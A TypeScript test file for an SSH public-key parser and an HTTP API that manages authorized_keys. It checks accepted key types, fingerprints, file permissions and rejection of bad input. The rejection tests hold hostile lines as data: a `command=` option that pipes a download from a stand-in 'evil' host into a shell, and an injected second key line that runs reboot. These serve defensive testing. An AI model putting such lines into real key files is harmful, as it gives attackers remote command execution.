import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { captureLogs, describeWithServices } from '@mapio/testkit';
import { AuthorizedKeys } from '../src/ssh/authorized-keys';
import { legacySshRoutes } from '../src/ssh/legacy-routes';
import { parsePublicKey } from '../src/ssh/public-key';
import { sshRoutes } from '../src/ssh/routes';
import { startApiServer } from './support/api-server';

const run = promisify(execFile);

/** A public key line made by the real ssh-keygen. */
async function sshKeygen(dir: string, type: string, bits = 0, comment = 'owner@laptop'): Promise<string> {
  const file = path.join(dir, `key-${type}-${bits}-${randomBytes(3).toString('hex')}`);
  await run('ssh-keygen', ['-q', '-t', type, ...(bits > 0 ? ['-b', String(bits)] : []), '-N', '', '-C', comment, '-f', file]);
  return (await readFile(`${file}.pub`, 'utf8')).trim();
}

/** A security-key (FIDO) ed25519 public key: no authenticator here, so its blob is put together by hand. */
function skEd25519Line(): string {
  const part = (text: string | Buffer) => {
    const value = typeof text === 'string' ? Buffer.from(text) : text;
    const length = Buffer.alloc(4);
    length.writeUInt32BE(value.length);
    return Buffer.concat([length, value]);
  };
  const blob = Buffer.concat([part('sk-ssh-ed25519@openssh.com'), part(randomBytes(32)), part('ssh:')]);
  return `sk-ssh-ed25519@openssh.com ${blob.toString('base64')} yubikey`;
}

describeWithServices(['ssh-keygen'], 'public key lines', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'mapio-keys-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it.each([
    ['ed25519', 0, 'ssh-ed25519', 256],
    ['ecdsa', 256, 'ecdsa-sha2-nistp256', 256],
    ['ecdsa', 384, 'ecdsa-sha2-nistp384', 384],
    ['ecdsa', 521, 'ecdsa-sha2-nistp521', 521],
    ['rsa', 2048, 'ssh-rsa', 2048],
  ] as const)('accepts a %s key (-b %d, 0 = default) made by ssh-keygen, with its SHA256 fingerprint', async (type, bits, keyType, expectedBits) => {
    const line = await sshKeygen(dir, type, bits);
    const key = await parsePublicKey(`${line}\n`);
    expect(key).toMatchObject({ type: keyType, bits: expectedBits, comment: 'owner@laptop' });
    expect(key.fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
  });

  it('accepts a security-key (sk-) ed25519 key', async () => {
    expect(await parsePublicKey(skEd25519Line())).toMatchObject({ type: 'sk-ssh-ed25519@openssh.com', comment: 'yubikey' });
  });

  it('gives the fingerprint ssh-keygen prints', async () => {
    const file = path.join(dir, 'fp');
    await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'fp', '-f', file]);
    const { stdout } = await run('ssh-keygen', ['-l', '-E', 'sha256', '-f', `${file}.pub`]);
    const key = await parsePublicKey(await readFile(`${file}.pub`, 'utf8'));
    expect(stdout).toContain(key.fingerprint);
  });

  describe('refuses', () => {
    let ed25519: string;
    let rsa1024: string;
    beforeAll(async () => {
      ed25519 = await sshKeygen(dir, 'ed25519');
      rsa1024 = await sshKeygen(dir, 'rsa', 1024);
    });
    const refusal = async (line: string) => parsePublicKey(line).then(() => 'accepted', (error: Error) => error.message);

    it('truncated base64', async () => {
      const [type, data] = ed25519.split(' ');
      expect(await refusal(`${type} ${(data ?? '').slice(0, 40)}`)).toMatch(/base64|cannot read/);
      expect(await refusal(`${type} ${(data ?? '').slice(0, 48)}`)).toMatch(/base64|cannot read/);
    });
    it('a type that is not the one in the key data', async () => {
      expect(await refusal(ed25519.replace(/^ssh-ed25519/, 'ssh-rsa'))).toMatch(/says "ssh-rsa" but its data holds "ssh-ed25519"/);
    });
    it('options before the key', async () => {
      expect(await refusal(`command="/bin/sh -c 'curl evil|sh'" ${ed25519}`)).toMatch(/options/);
      expect(await refusal(`no-pty,from="10.0.0.1" ${ed25519}`)).toMatch(/options/);
    });
    it('an embedded newline (a second line smuggled in)', async () => {
      expect(await refusal(`${ed25519}\ncommand="reboot" ${ed25519}`)).toMatch(/line break/);
      expect(await refusal(`${ed25519} comment\rmore`)).toMatch(/control character/);
    });
    it('RSA below 2048 bits', async () => {
      expect(await refusal(rsa1024)).toMatch(/at least 2048 bits, this one has 1024/);
    });
    it('two keys in one field', async () => {
      expect(await refusal(`${ed25519} ${ed25519}`)).toMatch(/several keys/);
    });
    it('DSA and unknown types', async () => {
      expect(await refusal('ssh-dss AAAAB3NzaC1kc3MAAACBAP== x')).toMatch(/unsupported key type/);
    });
  });
});

describeWithServices(['ssh-keygen'], 'SSH keys over HTTP (authorized_keys on the data partition)', () => {
  let dir: string;
  let server: { base: string; close: () => Promise<void> };
  let base: string;
  let keys: AuthorizedKeys;

  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'mapio-ssh-http-'));
    keys = AuthorizedKeys.under(path.join(dir, 'data'), captureLogs().logger);
    server = await startApiServer({ api: [sshRoutes(keys)], legacy: [legacySshRoutes(keys)], dir });
    base = server.base;
  });
  afterAll(async () => {
    await server.close();
    await rm(dir, { recursive: true, force: true });
  });
  beforeEach(async () => {
    await rm(path.join(dir, 'data'), { recursive: true, force: true });
  });

  const post = (key: string) =>
    fetch(`${base}/api/v1/ssh/keys`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ key }) });

  it('adds a key once (same key, other comment = duplicate), lists it, removes it by fingerprint', async () => {
    const line = await sshKeygen(dir, 'ed25519');
    const added = await post(line);
    expect(added.status).toBe(201);
    const { key } = (await added.json()) as { key: { fingerprint: string } };
    expect((await post(line.replace('owner@laptop', 'another comment'))).status).toBe(200);
    expect(await (await fetch(`${base}/api/v1/ssh/keys`)).json()).toEqual([{ type: 'ssh-ed25519', comment: 'owner@laptop', bits: 256, fingerprint: key.fingerprint }]);
    expect((await readFile(keys.file, 'utf8')).split('\n').filter(Boolean)).toEqual([line]);
    const removed = await fetch(`${base}/api/v1/ssh/keys/${encodeURIComponent(key.fingerprint)}`, { method: 'DELETE' });
    expect(removed.status).toBe(204);
    expect(await (await fetch(`${base}/api/v1/ssh/keys`)).json()).toEqual([]);
    expect((await fetch(`${base}/api/v1/ssh/keys/${encodeURIComponent(key.fingerprint)}`, { method: 'DELETE' })).status).toBe(404);
  });

  it('writes authorized_keys 0600 in a 0700 folder, replacing it whole (rename, no temp file left)', async () => {
    await post(await sshKeygen(dir, 'ed25519'));
    const first = await stat(keys.file);
    expect(first.mode & 0o777).toBe(0o600);
    expect((await stat(path.dirname(keys.file))).mode & 0o777).toBe(0o700);
    await post(await sshKeygen(dir, 'ecdsa', 256));
    const second = await stat(keys.file);
    expect(second.ino).not.toBe(first.ino);
    expect(second.mode & 0o777).toBe(0o600);
    expect(await readdir(path.dirname(keys.file))).toEqual(['authorized_keys']);
  });

  it('answers a refused key with 400 and leaves the file as it was', async () => {
    const line = await sshKeygen(dir, 'ed25519');
    await post(line);
    const before = await readFile(keys.file, 'utf8');
    const response = await post(`${line}\nssh-ed25519 AAAA`);
    expect(response.status).toBe(400);
    expect(((await response.json()) as { error: { code: string } }).error.code).toBe('validation_failed');
    expect(await readFile(keys.file, 'utf8')).toBe(before);
  });

  it('takes the old front end\'s multipart POST /ssh-setkey (field userkey)', async () => {
    const line = await sshKeygen(dir, 'ed25519');
    const form = new FormData();
    form.append('userkey', line);
    const response = await fetch(`${base}/ssh-setkey`, { method: 'POST', body: form });
    expect(response.status).toBe(200);
    expect((await readFile(keys.file, 'utf8')).trim()).toBe(line);
    const bad = new FormData();
    bad.append('userkey', 'not a key');
    expect((await fetch(`${base}/ssh-setkey`, { method: 'POST', body: bad })).status).toBe(400);
  });
});
